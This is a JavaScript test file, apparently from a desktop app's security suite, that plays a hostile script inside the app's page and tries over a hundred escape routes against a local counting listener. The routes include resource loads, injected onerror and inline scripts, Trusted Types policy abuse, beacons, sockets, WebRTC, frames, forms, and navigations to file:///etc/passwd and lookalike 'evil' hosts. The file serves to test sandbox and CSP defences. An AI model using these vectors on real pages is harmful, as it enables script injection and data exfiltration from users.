// As if an attacker's script ran in our page: it tries every way out that we could think of.
// The route is the port of a listener that counts whatever reaches it.
import { frames } from './frames.js';

const base = 'http://127.0.0.1:' + location.hash.replace(/\D/g, '');
const yard = document.getElementById('yard');
const say = (name, value) => fetch('/report/' + name + '/' + encodeURIComponent(JSON.stringify(value)));
const ask = async (method, params) =>
  JSON.parse(await backstory.call(JSON.stringify({ jsonrpc: '2.0', id: 1, method, params })));
const pause = (time) => new Promise((done) => setTimeout(done, time));

window.pwned = [];
let violations = 0;
document.addEventListener('securitypolicyviolation', () => { violations++; });

const add = (tag, attributes, text) => {
  const element = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  if (text !== undefined) element.append(text);
  yard.append(element);
  return element;
};
const svg = (tag, attributes) => {
  const root = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
  const element = document.createElementNS('http://www.w3.org/2000/svg', tag);
  for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
  root.append(element);
  yard.append(root);
  return element;
};
const mark = (name) => `window.pwned.push(${JSON.stringify(name)})`;
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const dropped = 'DROPPED-FILE-5d0c';

const probes = {
  // Pictures, styles, fonts, media.
  image: (at) => add('img', { src: at }),
  imageObject: (at) => { new Image().src = at; },
  imageSet: (at) => add('img', { srcset: at + ' 1x' }),
  picture: (at) => add('picture', {}).append(add('source', { srcset: at }), add('img', { src: at + '2' })),
  styleAttribute: (at) => add('div', { style: `background:url(${at})` }, 'x'),
  styleProperty: (at) => { add('div', {}, 'x').style.backgroundImage = `url(${at})`; },
  styleElement: (at) => add('style', {}, `h1{background:url(${at})}`),
  styleImport: (at) => add('style', {}, `@import url(${at});`),
  styleSheet: (at) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`h1{background-image:url(${at})} @import url(${at}2);`);
    document.adoptedStyleSheets = [sheet];
  },
  cursor: (at) => { document.body.style.cursor = `url(${at}), auto`; },
  listImage: (at) => { add('li', {}, 'x').style.listStyleImage = `url(${at})`; },
  linkStyle: (at) => add('link', { rel: 'stylesheet', href: at }),
  linkPrefetch: (at) => add('link', { rel: 'prefetch', href: at }),
  linkPreload: (at) => add('link', { rel: 'preload', as: 'image', href: at }),
  linkPreloadFetch: (at) => add('link', { rel: 'preload', as: 'fetch', href: at, crossorigin: '' }),
  linkModule: (at) => add('link', { rel: 'modulepreload', href: at }),
  linkConnect: (at) => add('link', { rel: 'preconnect', href: at }),
  linkIcon: (at) => add('link', { rel: 'icon', href: at }),
  linkManifest: (at) => add('link', { rel: 'manifest', href: at }),
  font: (at) => new FontFace('x', `url(${at})`).load(),
  video: (at) => add('video', { src: at, poster: at + '2', autoplay: '', preload: 'auto' }),
  audio: (at) => add('audio', { src: at, autoplay: '', preload: 'auto' }),
  track: (at) => add('video', {}).append(add('track', { src: at, default: '' })),
  svgUse: (at) => svg('use', { href: at + '#x' }),
  svgImage: (at) => svg('image', { href: at, width: 9, height: 9 }),
  svgFilter: (at) => svg('feImage', { href: at }),

  // Scripts.
  script: (at) => { add('script', {}).src = at; },
  scriptAttribute: (at) => add('script', { src: at }),
  scriptModule: (at) => add('script', { type: 'module', src: at }),
  scriptInline: (at, name) => add('script', {}, mark(name)),
  scriptInlineModule: (at, name) => add('script', { type: 'module' }, mark(name)),
  scriptData: (at, name) => add('script', { src: 'data:text/javascript,' + mark(name) }),
  scriptBlob: (at, name) => add('script', { src: blob(mark(name), 'text/javascript') }),
  svgScript: (at, name) => svg('script', {}).append(mark(name)),
  importRemote: (at) => import(at),
  importData: (at, name) => import('data:text/javascript,' + mark(name)),
  importBlob: (at, name) => import(blob(mark(name), 'text/javascript')),
  importMap: (at) => { add('script', { type: 'importmap' }, `{"imports":{"x":"${at}"}}`); return import('x'); },
  eval: (at, name) => (0, eval)(mark(name)),
  makeFunction: (at, name) => new Function(mark(name))(),
  timeoutText: (at, name) => { setTimeout(mark(name), 0); },
  handler: (at, name) => add('button', { onclick: mark(name) }).click(),
  handlerImage: (at, name) => add('img', { src: 'x', onerror: mark(name) }),
  innerMarkup: (at, name) => { yard.innerHTML += `<img src=x onerror='${mark(name)}'>`; },
  outerMarkup: (at, name) => { add('p', {}).outerHTML = `<img src=x onerror='${mark(name)}'>`; },
  adjacentMarkup: (at, name) => yard.insertAdjacentHTML('beforeend', `<img src=x onerror='${mark(name)}'>`),
  setMarkup: (at, name) => yard.setHTMLUnsafe(`<img src=x onerror='${mark(name)}'>`),
  write: (at, name) => document.write(`<script>${mark(name)}</` + 'script>'),
  fragment: (at, name) => yard.append(document.createRange().createContextualFragment(`<script>${mark(name)}</` + 'script>')),
  parser: (at, name) => {
    const made = new DOMParser().parseFromString(`<script>${mark(name)}</` + 'script>', 'text/html');
    yard.append(document.importNode(made.querySelector('script'), true));
  },
  policy: (at, name) => {
    const loose = trustedTypes.createPolicy('loose', { createHTML: (x) => x, createScript: (x) => x });
    yard.innerHTML = loose.createHTML(`<img src=x onerror='${mark(name)}'>`);
  },
  policyDefault: (at, name) => {
    trustedTypes.createPolicy('default', { createHTML: (x) => x, createScript: (x) => x });
    yard.innerHTML = `<img src=x onerror='${mark(name)}'>`;
  },
  policyNamed: (at, name) => {
    // The one name that is allowed still brings no inline handler past the policy.
    const named = trustedTypes.createPolicy('svelte-trusted-html', { createHTML: (x) => x });
    window.trusted = named;
    add('div', {}).innerHTML = named.createHTML(
      `<img src=x onerror='${mark(name)}'><script>${mark(name)}</` + `script><img src='${at}'>`);
  },
  scriptLink: (at, name) => add('a', { href: 'javascript:' + mark(name) }, 'x').click(),
  transform: (at, name) => {
    const sheet = new DOMParser().parseFromString(
      '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">' +
      `<xsl:template match="/"><script xmlns="http://www.w3.org/1999/xhtml">${mark(name)}</script>` +
      '</xsl:template></xsl:stylesheet>', 'text/xml');
    const machine = new XSLTProcessor();
    machine.importStylesheet(sheet);
    yard.append(machine.transformToFragment(document, document));
  },

  // Requests.
  fetch: (at) => fetch(at),
  fetchBlind: (at) => fetch(at, { mode: 'no-cors', method: 'POST', body: 'x' }),
  fetchKeep: (at) => fetch(at, { mode: 'no-cors', keepalive: true }),
  request: (at) => { const it = new XMLHttpRequest(); it.open('GET', at); it.send(); },
  beacon: (at) => navigator.sendBeacon(at, 'x'),
  ping: (at) => add('a', { href: '#' + location.hash.slice(1), ping: at }, 'x').click(),
  socket: (at) => { new WebSocket(at.replace('http', 'ws')); },
  source: (at) => { new EventSource(at); },
  transport: (at) => { new WebTransport(at.replace('http', 'https')); },
  peer: async () => {
    const port = base.split(':')[2];
    const it = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:' + port }] });
    it.createDataChannel('x');
    await it.setLocalDescription(await it.createOffer());
  },
  worker: (at) => { new Worker(at); },
  workerBlob: (at, name) => {
    const it = new Worker(blob(`fetch('${at}');postMessage(1)`, 'text/javascript'));
    it.onmessage = () => window.pwned.push(name);
  },
  workerOwn: (at, name) => { new Worker('main.js').onmessage = () => window.pwned.push(name); },
  workerShared: (at) => { new SharedWorker(at); },
  workerService: () => navigator.serviceWorker.register('main.js'),
  worklet: (at) => new OfflineAudioContext(1, 1, 44100).audioWorklet.addModule(at),

  // Frames, objects, forms.
  frame: (at) => add('iframe', { src: at }),
  frameMarkup: (at, name) => add('iframe', { srcdoc: `<script>parent.${mark(name)}</` + 'script>' }),
  frameData: (at) => add('iframe', { src: `data:text/html,<img src=${at}>` }),
  frameBlob: (at) => add('iframe', { src: blob(`<img src=${at}>`, 'text/html') }),
  frameScript: (at, name) => add('iframe', { src: 'javascript:parent.' + mark(name) }),
  object: (at) => add('object', { data: at }),
  embed: (at) => add('embed', { src: at }),
  formPost: (at) => add('form', { action: at, method: 'post' }).submit(),
  formGet: (at) => add('form', { action: at }).requestSubmit(),
  formTarget: (at) => add('form', { action: at, target: '_blank' }).submit(),
  formFile: (at) => add('form', { action: 'backstory://app/rpc', method: 'post', enctype: 'multipart/form-data' }).submit(),
  formButton: (at) => { const it = add('form', {}); it.append(add('button', { formaction: at, formmethod: 'post' })); it.lastChild.click(); },
  baseAddress: (at) => { const it = add('base', { href: base + '/' }); add('img', { src: 'baseAddress' }); it.remove(); },

  // Windows, files, permissions.
  open: (at) => window.open(at),
  openFeatures: (at) => window.open(at, 'x', 'width=100,height=100'),
  openBlank: () => window.open('about:blank'),
  linkBlank: (at) => add('a', { href: at, target: '_blank' }, 'x').click(),
  linkTop: (at) => add('a', { href: at, target: '_top' }, 'x').click(),
  saveBlob: () => add('a', { href: blob(dropped, 'text/plain'), download: 'dropped-blob.txt' }, 'x').click(),
  saveData: () => add('a', { href: 'data:text/plain,' + dropped, download: 'dropped-data.txt' }, 'x').click(),
  saveRemote: (at) => add('a', { href: at, download: 'dropped-remote.txt' }, 'x').click(),
  saveOwn: () => add('a', { href: 'main.js', download: 'dropped-own.js' }, 'x').click(),
  chooseFile: () => { const it = add('input', { type: 'file' }); it.click(); it.showPicker(); },
  notify: async (at, name) => { if (await Notification.requestPermission() === 'granted') window.pwned.push(name); },
  place: (at, name) => navigator.geolocation.getCurrentPosition(() => window.pwned.push(name)),
  camera: async (at, name) => { await navigator.mediaDevices.getUserMedia({ video: true, audio: true }); window.pwned.push(name); },
  screen: async (at, name) => { await navigator.mediaDevices.getDisplayMedia(); window.pwned.push(name); },
  clipboard: async (at, name) => { await navigator.clipboard.readText(); window.pwned.push(name); },
  fullscreen: async (at, name) => { await document.documentElement.requestFullscreen(); window.pwned.push(name); },
  alert: () => { alert('x'); confirm('x'); prompt('x'); },
  print: () => print(),
  external: (at) => { location.href = 'mailto:a@' + at.slice(7); },

  // Leaving.
  refresh: (at) => add('meta', { 'http-equiv': 'refresh', content: '0;url=' + at }),
  historyPush: (at) => history.pushState(null, '', at),
  leaveData: (at) => { location.href = `data:text/html,<img src=${at}>`; },
  leaveBlob: (at) => { location.href = blob(`<img src=${at}>`, 'text/html'); },
  leaveFile: () => { location.href = 'file:///etc/passwd'; },
  leaveBlank: () => { location.href = 'about:blank'; },
  leaveScript: (at, name) => { location.href = 'javascript:' + mark(name); },
  leaveOwn: () => { location.href = 'backstory://app/main.js'; },
  leaveNear: () => { location.href = 'backstory://app.evil/index.html'; },
  leaveUser: () => { location.href = 'backstory://app@evil/index.html'; },
  leaveReplace: (at) => location.replace(at),
  leaveAssign: (at) => location.assign(at),
  leave: (at) => { location.href = at; },
};

const outcome = {};
for (const [name, probe] of Object.entries(probes)) {
  try {
    const late = pause(name === 'worklet' || name === 'camera' || name === 'screen' ? 200 : 50);
    await Promise.race([Promise.resolve(probe(base + '/' + name, name)).catch((error) => {
      outcome[name] = String(error.name);
    }), late]);
    outcome[name] ??= 'ran';
  } catch (error) {
    outcome[name] = String(error.name);
  }
}
await pause(1500);
const framed = await frames(base, yard);
await pause(1500);
const lost = [];
for (let at = 0; at < 500; at++) {
  const reply = await ask('app.state', {});
  if (!reply.result) lost.push(reply);
}
const { result: state } = await ask('app.state', {});
say('hostile', {
  probes: Object.keys(probes).length,
  outcome,
  pwned: window.pwned,
  violations,
  framed,
  lost: lost.length,
  route: state.route,
  here: location.href.split('#')[0],
});
